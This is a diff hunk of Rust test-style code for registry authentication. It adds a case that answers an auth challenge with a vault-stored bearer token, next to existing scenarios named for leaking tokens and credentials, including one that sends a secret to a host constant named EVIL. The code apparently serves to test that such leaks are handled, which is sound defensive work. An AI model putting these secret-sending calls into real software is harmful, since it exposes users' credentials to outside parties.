@@ -91,6 +91,7 @@ impl RegistryAuth for Auth {
             "leak-credential-in-form" => send_credential_in_form(challenge, VAULT),
             "leak-token" => send_secret(&token()?, EVIL),
             "leak-token-to-a-granted-origin" => send_secret(&token()?, VAULT),
+            "answer-with-a-secret-of-the-site" => answer.bearer(&secrets::named("vault-token")?, 60),
             "leak-secret-to-the-realm" => send_secret(&secrets::named("vault-token")?, REALM),
             "sign-with-a-token" => token()?.hmac_sha256(b"data").map(drop),
             "header-of-the-host" => header("Authorization", "Basic Zm9v"),
